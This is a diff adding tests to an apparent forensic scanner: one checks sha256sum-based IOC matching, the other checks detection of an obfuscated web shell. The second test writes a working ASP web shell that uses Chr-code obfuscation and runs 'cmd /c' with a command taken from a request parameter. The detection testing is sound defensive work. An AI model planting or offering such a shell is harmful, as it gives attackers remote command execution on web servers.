@@ -148,3 +148,35 @@ def test_the_content_scan_skips_parsed_logs_by_default(tmp_path: Path, monkeypat
         scan([tmp_path / "ev"], ScanOptions(out=tmp_path / f"case-{yara_logs}", quiet=True, jobs=1,
                                             yara_logs=yara_logs))
         assert sorted(Path(r).name for r in scanned) == expected
+
+
+def test_a_file_named_by_a_sha256sum_line_is_flagged(tmp_path: Path) -> None:
+    """``HASH  dropped loader`` (sha256sum output, UTF-16 with BOM, CRLF) names a file: it is flagged."""
+    ev = tmp_path / "ev" / "ProgramData"
+    ev.mkdir(parents=True)
+    (ev / "loader.exe").write_bytes(b"MZ dropped loader bytes")
+    sha = hashlib.sha256(b"MZ dropped loader bytes").hexdigest()
+    listing = f"{sha}  dropped loader\r\n{'0' * 64} *other.exe\r\n"
+    (tmp_path / "sums.txt").write_bytes(b"\xff\xfe" + listing.encode("utf-16-le"))
+    document = scan(
+        [tmp_path / "ev"], ScanOptions(out=tmp_path / "case", quiet=True, jobs=1, iocs=[tmp_path / "sums.txt"])
+    ).document
+    (finding,) = _by_check(document, "ioc.file_hash")
+    assert finding.key == sha and finding.evidence[0].path.endswith("ProgramData/loader.exe")
+    assert "dropped loader" in finding.evidence[0].excerpt
+    assert document.rules["yara"]["iocs"]["skipped_count"] == 0
+
+
+def test_an_obfuscated_page_in_any_site_folder_is_reported_with_what_was_undone(tmp_path: Path) -> None:
+    site = tmp_path / "ev" / "inetpub" / "wwwroot" / "shop" / "images"
+    site.mkdir(parents=True)
+    page = b'<% Set s = CreateObject(Chr(87) & Chr(83) & "cript.Shell") : s.Run "cmd /c " & Request("c") %>'
+    (site / "thumb.asp").write_bytes(page)
+    document = scan([tmp_path / "ev"], ScanOptions(out=tmp_path / "case", quiet=True, jobs=1)).document
+    (finding,) = _by_check(document, "yara.exhunt.webshells.exhunt_webshell_process_from_page.deobfuscated")
+    assert finding.severity == "high" and "T1027" in finding.attack
+    ref = finding.evidence[0]
+    assert ref.path.endswith("inetpub/wwwroot/shop/images/thumb.asp")
+    assert ref.excerpt.startswith("undone: char codes, concatenation; view exhunt_webshell_process_from_page:")
+    assert "$asp_shell@11 'CreateObject(\"WScript.Shell\"'" in ref.excerpt  # quoted from the view
+    assert not [f for f in document.findings if f.check.startswith("yara.") and f is not finding]
